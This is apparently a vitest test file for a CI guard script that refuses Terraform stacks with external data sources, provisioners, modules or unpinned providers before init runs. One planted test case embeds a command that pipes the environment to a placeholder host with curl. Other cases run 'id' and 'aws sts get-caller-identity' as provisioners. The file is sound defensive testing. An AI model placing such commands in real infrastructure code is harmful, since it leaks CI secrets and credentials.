/**
 * scripts/ci/check-stack-code.sh: before `terraform init` runs in a credentialed job, a stack may
 * use only the providers tools/versions.json pins, and no `external` data source, provisioner or
 * module. Every real stack passes; each planted twin is refused, and plan-stacks.sh and
 * apply-stacks.sh never reach init for it (a fake terraform records what it was asked to do).
 */
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCommand } from '../../scripts/lib/run.js';
import { REPO_ROOT } from '../../tools/toolchain.js';
import { synthToDisk } from '../stacks/support/platform.js';

const synthesised = synthToDisk();
const SCRIPT = path.join(REPO_ROOT, 'scripts/ci/check-stack-code.sh');
const check = (...dirs: string[]) => runCommand('bash', [SCRIPT, ...dirs], { timeoutMs: 60_000 });

type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any
const clone = (id: string): Json => structuredClone(synthesised.stacks[id]) as Json;

/** A stack directory holding `json` as its cdk.tf.json. */
function stackWith(json: Json, name = 'app-dev'): string {
  const dir = path.join(mkdtempSync(path.join(os.tmpdir(), 'stack-code-')), name);
  mkdirSync(dir, { recursive: true });
  writeFileSync(path.join(dir, 'cdk.tf.json'), JSON.stringify(json));
  return dir;
}

const TWINS: [string, (j: Json) => void, RegExp][] = [
  ['an external data source', (j) => ((j.data ??= {}).external = { run: { program: ['bash', '-c', 'env | curl -d @- https://example.invalid'] } }), /data "external" "run" runs a program/],
  [
    'a provisioner on a resource',
    (j) => {
      const [type, blocks] = Object.entries(j.resource as Json)[0]!;
      const name = Object.keys(blocks as Json)[0]!;
      j.resource[type][name].provisioner = [{ 'local-exec': { command: 'aws sts get-caller-identity' } }];
    },
    /resource "[a-z0-9_]+\.[^"]+" has a provisioner/,
  ],
  ['a provisioner on terraform_data', (j) => (j.resource.terraform_data = { x: { provisioner: [{ 'local-exec': { command: 'id' } }] } }), /resource "terraform_data\.x" has a provisioner/],
  ['a provider from another namespace', (j) => (j.terraform.required_providers.aws.source = 'someone/aws'), /provider "aws" is registry.terraform.io\/someone\/aws 5\.100\.0, which tools\/versions.json does not pin/],
  ['a pinned provider at another version', (j) => (j.terraform.required_providers.aws.version = '>= 5.0'), /registry.terraform.io\/hashicorp\/aws >= 5\.0, which tools\/versions.json does not pin/],
  ['a provider from another registry', (j) => (j.terraform.required_providers.helm.source = 'example.com/hashicorp/helm'), /example.com\/hashicorp\/helm 3\.2\.0/],
  ['an unpinned provider added', (j) => (j.terraform.required_providers.external = { source: 'hashicorp/external', version: '2.3.5' }), /provider "external" is registry.terraform.io\/hashicorp\/external 2\.3\.5/],
  ['a resource of a provider never required (fetched at any version)', (j) => (j.resource.null_resource = { x: {} }), /resource "null_resource" belongs to no pinned provider/],
  ['a module', (j) => (j.module = { vpc: { source: 'terraform-aws-modules/vpc/aws' } }), /the top-level block "module"/],
  // Found in review: the places a first version of the check did not look.
  ['an external data source inside a check block', (j) => (j.check = { c: { data: { external: { x: { program: ['id'] } } } } }), /the top-level block "check"/],
  ['a removed block (its provisioner runs at apply)', (j) => (j.removed = [{ from: 'aws_vpc.x', provisioner: [{ 'local-exec': { command: 'id', when: 'destroy' } }] }]), /the top-level block "removed"/],
  ['a provider configured but never required', (j) => (j.provider.null = [{}]), /provider "null" is configured but not in terraform.required_providers/],
  [
    'a resource naming an unrequired provider',
    (j) => {
      const [type, blocks] = Object.entries(j.resource as Json)[0]!;
      j.resource[type][Object.keys(blocks as Json)[0]!].provider = 'external.x';
    },
    /names the provider "external", which is not in terraform.required_providers/,
  ],
  ['a provisioner in a list-form block body', (j) => (j.resource.aws_vpc = { v: [{ cidr_block: '10.0.0.0/16', provisioner: [{ 'local-exec': { command: 'id' } }] }] }), /resource "aws_vpc.v" has a provisioner/],
  ['a list of type maps', (j) => (j.data = [{ external: { x: { program: ['id'] } } }]), /data "external" "x" runs a program/],
  ['an ephemeral resource of an unpinned provider', (j) => (j.ephemeral = { ...j.ephemeral, vault_kv_secret: { x: {} } }), /ephemeral "vault_kv_secret" belongs to no pinned provider/],
  ['a block body that is not an object (fails closed)', (j) => (j.resource.aws_vpc = 'x'), /cannot be checked/],
];

describe('check-stack-code.sh', () => {
  it('passes every synthesised stack of every environment', async () => {
    const ids = Object.keys(synthesised.stacks);
    expect(ids.length).toBeGreaterThanOrEqual(15);
    const r = await check(...ids.map(synthesised.stackDir));
    expect(r.exitCode, r.stdout + r.stderr).toBe(0);
  });

  it.each(TWINS)('refuses %s', async (_, plant, message) => {
    const json = clone('app-dev');
    plant(json);
    const r = await check(stackWith(json));
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toMatch(message);
  });
});

describe('plan-stacks.sh and apply-stacks.sh run the check before terraform init', () => {
  /** A fake terraform that records its subcommands; plans and applies succeed without changes. */
  function fakeTerraform() {
    const bin = mkdtempSync(path.join(os.tmpdir(), 'stack-code-bin-'));
    const calls = path.join(bin, 'calls');
    writeFileSync(
      path.join(bin, 'terraform'),
      `#!/usr/bin/env bash\ndir=\${1#-chdir=}; shift\necho "$1" >> "${calls}"\ncase "$1" in\n  plan) echo plan > "$dir/tfplan" ;;\n  show) echo '{}' ;;\nesac\nexit 0\n`,
    );
    chmodSync(path.join(bin, 'terraform'), 0o755);
    return { env: { ...process.env, PATH: `${bin}${path.delimiter}${process.env.PATH}` }, calls: () => (existsSync(calls) ? readFileSync(calls, 'utf8').trim().split('\n') : []) };
  }

  it('plan-stacks.sh: a stack with an external data source fails with the reason in its report, and init never runs for it', async () => {
    const json = clone('app-dev');
    TWINS[0]![1](json);
    const dir = stackWith(json);
    const tf = fakeTerraform();
    const r = await runCommand('bash', [path.join(REPO_ROOT, 'scripts/ci/plan-stacks.sh'), 'app-dev'], { timeoutMs: 60_000, env: { ...tf.env, STACKS_DIR: path.dirname(dir) } });
    expect(r.exitCode).toBe(1);
    expect(tf.calls()).toEqual([]);
    expect(readFileSync(path.join(dir, 'plan.txt'), 'utf8')).toMatch(/refused before terraform init[\s\S]*data "external"/);
    // The clean twin is planned.
    const clean = stackWith(clone('app-dev'));
    const ok = await runCommand('bash', [path.join(REPO_ROOT, 'scripts/ci/plan-stacks.sh'), 'app-dev'], { timeoutMs: 60_000, env: { ...tf.env, STACKS_DIR: path.dirname(clean) } });
    expect(ok.exitCode, ok.stdout + ok.stderr).toBe(0);
    expect(tf.calls()).toEqual(['init', 'plan', 'show', 'show']);
  });

  it('apply-stacks.sh: a sealed stack with a provisioner is refused before init', async () => {
    const json = clone('app-dev');
    TWINS[1]![1](json);
    const dir = stackWith(json);
    writeFileSync(path.join(dir, 'tfplan'), 'plan');
    const tf = fakeTerraform();
    const r = await runCommand('bash', [path.join(REPO_ROOT, 'scripts/ci/apply-stacks.sh'), 'app-dev'], { timeoutMs: 60_000, env: { ...tf.env, STACKS_DIR: path.dirname(dir) } });
    expect(r.exitCode).toBe(1);
    expect(r.stdout).toMatch(/has a provisioner/);
    expect(tf.calls()).toEqual([]);
  });
});
